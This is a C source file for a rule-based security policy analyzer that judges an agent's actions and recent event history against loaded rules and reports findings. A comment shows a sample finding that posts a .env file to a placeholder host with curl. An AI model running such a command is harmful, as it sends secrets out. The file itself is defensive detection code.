#include "security/policy/policy.h"

#include <fcntl.h>

#include "base/fs.h"
#include "event/observation.h"
#include "security/policy/rule.h"
#include "security/policy/shipped.h"

enum {
    POLICY_FILE_MAX = 1 << 20,
    POLICY_HISTORY = 200, /* events that a flow looks back over */
    POLICY_PART_MAX = 200,
};

struct tn_policy {
    struct rules rules;
};

/* --- reading ---------------------------------------------------------------------------------- */

const char *tn_policy_shipped(size_t *n)
{
    *n = tn_policy_files[0].size;
    return (const char *)tn_policy_files[0].bytes;
}

static bool is_toml(const char *name)
{
    size_t n = strlen(name);

    return n > 5 && strcmp(name + n - 5, ".toml") == 0;
}

int tn_policy_add(struct tn_policy *p, const char *name, const char *text, size_t n,
                  struct tn_error *err)
{
    return is_toml(name) ? rules_from_toml(&p->rules, name, text, n, err)
                         : rules_from_invariant(&p->rules, name, text, n, err);
}

static int add_file(struct tn_policy *p, const char *path, struct tn_error *err)
{
    tn_autobuf struct tn_buf text = TN_BUF_INIT(POLICY_FILE_MAX);

    if (tn_fs_read(AT_FDCWD, path, &text, err))
        return -1;
    return tn_policy_add(p, path, tn_buf_str(&text), text.len, err);
}

struct tn_policy *tn_policy_new(bool shipped, char *const *files, size_t count,
                                struct tn_error *err)
{
    tn_autopolicy struct tn_policy *p = tn_calloc(1, sizeof *p);
    size_t n;
    const char *text = tn_policy_shipped(&n);

    p->rules.pool = tn_arena_new();
    if (shipped && tn_policy_add(p, tn_policy_files[0].name, text, n, err))
        return NULL;
    for (size_t i = 0; i < count; i++) {
        if (add_file(p, files[i], err))
            return NULL;
    }
    return TN_TAKE_PTR(p);
}

void tn_policy_free(struct tn_policy *p)
{
    if (p)
        tn_arena_free(p->rules.pool);
    free(p);
}

size_t tn_policy_count(const struct tn_policy *p)
{
    size_t count = 0;

    for (size_t i = 0; i < p->rules.count; i++)
        count += !p->rules.list[i]->quiet;
    return count;
}

char *tn_policy_place(const struct tn_policy *p, const char *rule)
{
    const struct rule *r = rules_find(&p->rules, rule);

    return r ? tn_asprintf("%s:%d", r->file, r->line) : NULL;
}

/* --- judging ---------------------------------------------------------------------------------- */

/* The facts of the rules that this event meets. */
static uint64_t facts_of(struct look *look)
{
    uint64_t met = 0;

    for (size_t i = 0; i < look->rules->count; i++) {
        const struct rule *r = look->rules->list[i];
        if (r->fact >= 0 && !(look->facts >> r->fact & 1) && rule_met(r, look))
            met |= (uint64_t)1 << r->fact;
    }
    return met;
}

static uint64_t facts_of_event(const struct look *look, const struct tn_json *event)
{
    autoscene struct scene scene = {0};
    struct look earlier = {.scene = &scene,
                           .rules = look->rules,
                           .facts = look->facts,
                           .facts_known = true,
                           .deadline = look->deadline};
    tn_autoaction struct tn_action action = {.type = TN_ACTION_NULL};
    struct tn_action read;
    size_t n = 0;
    const char *text = tn_json_str(tn_json_get(event, "content"), &n);

    switch (tn_event_kind(event)) {
    case TN_EVENT_ACTION:
        if (tn_action_from_json(event, &read, NULL))
            return 0;
        action = read;
        if (action.confirmation_state != TN_CONFIRMED) /* it was not carried out */
            return 0;
        scene_of_action(&scene, &action, NULL);
        return facts_of(&earlier);
    case TN_EVENT_OBSERVATION:
        scene_of_output(&scene, text ? text : "", n);
        return facts_of(&earlier);
    case TN_EVENT_NONE:
        break;
    }
    return 0;
}

void look_facts(struct look *look)
{
    const struct tn_history *h = look->history;
    size_t first = h && h->count > POLICY_HISTORY ? h->count - POLICY_HISTORY : 0;

    look->facts_known = true;
    for (size_t i = first; h && i < h->count; i++)
        look->facts |= facts_of_event(look, h->events[i]);
}

/* "args.command: curl -d @.env https://x" in one line. */
static void put_part(struct tn_buf *out, struct part part)
{
    size_t n = part.len > POLICY_PART_MAX ? POLICY_PART_MAX : part.len;

    if (!part.field)
        return;
    tn_buf_printf(out, "%s: ", part.field);
    for (size_t i = 0; i < n; i++)
        tn_buf_putc(out, part.text[i] == '\n' || part.text[i] == '\t' ? ' ' : part.text[i]);
    if (n < part.len)
        tn_buf_puts(out, " ...");
}

static void add_finding(const struct rule *r, const struct look *look, struct tn_verdict *out)
{
    tn_autobuf struct tn_buf part = TN_BUF_INIT(4 << 10), text = TN_BUF_INIT(4 << 10);

    put_part(&part, look_part(look));
    if (look->path && look->path->raw == look->path->path) /* of scene_follow */
        tn_buf_printf(&part, " (leads to %s)", look->path->path);
    tn_buf_puts(&text, r->text);
    if (look->sign && strcmp(look->sign->text, r->text) != 0)
        tn_buf_printf(&text, ": %s", look->sign->text);
    tn_verdict_add(out, tn_analyzer_policy.name, r->name, tn_buf_str(&part), r->risk,
                   tn_buf_str(&text));
}

int tn_policy_judge(const struct tn_policy *p, const struct tn_case *c, int64_t deadline,
                    struct tn_verdict *out, struct tn_error *err)
{
    autoscene struct scene scene = {0};
    struct look look = {
        .scene = &scene, .rules = &p->rules, .history = c->history, .deadline = deadline};

    struct tn_error why = {0};

    scene_of_action(&scene, c->action, c->cwd);
    if (scene_follow(&scene, c, deadline, &why))
        tn_verdict_add(out, tn_analyzer_policy.name, "links", "", TN_RISK_UNKNOWN, why.text);
    for (size_t i = 0; i < p->rules.count; i++) {
        const struct rule *r = p->rules.list[i];
        if (!r->quiet && rule_met(r, &look))
            add_finding(r, &look, out);
    }
    return look.late ? tn_fail(err, TN_E_TIMEOUT, "the rules took too long") : 0;
}

/* --- the analyzer ----------------------------------------------------------------------------- */

static void *open_policy(const struct tn_security_settings *s, struct tn_error *err)
{
    struct tn_policy *p =
        tn_policy_new(s->default_policy, s->policies.items, s->policies.count, err);

    if (p && !p->rules.count) {
        tn_policy_free(p);
        tn_fail(err, TN_E_INVALID,
                "there are no rules: security.policies names no file, and "
                "security.default_policy is off");
        return NULL;
    }
    return p;
}

static void close_policy(void *self)
{
    tn_policy_free(self);
}

static int judge(void *self, const struct tn_case *c, int64_t deadline, struct tn_verdict *out,
                 struct tn_error *err)
{
    return tn_policy_judge(self, c, deadline, out, err);
}

const struct tn_analyzer tn_analyzer_policy = {
    .name = "policy",
    .about = "rules in files, looked at in this process",
    .history = POLICY_HISTORY,
    .open = open_policy,
    .close = close_policy,
    .judge = judge,
};

/* --- documentation ---------------------------------------------------------------------------- */

void tn_policy_describe(const struct tn_policy *p, struct tn_buf *out)
{
    tn_buf_puts(out, "| Rule | Risk | What it finds |\n| --- | --- | --- |\n");
    for (size_t i = 0; i < p->rules.count; i++) {
        const struct rule *r = p->rules.list[i];
        tn_buf_printf(out, "| `%s` | %s | %s |\n", r->name,
                      r->quiet ? "none" : tn_risk_word(r->risk), r->text);
    }
}

void tn_policy_describe_detectors(struct tn_buf *out)
{
    tn_buf_puts(out, "| Detector | Finds | Kinds |\n| --- | --- | --- |\n");
    for (const struct detector *const *d = detectors; *d; d++)
        tn_buf_printf(out, "| `%s` | %s | %s |\n", (*d)->name, (*d)->about, (*d)->kinds);
}
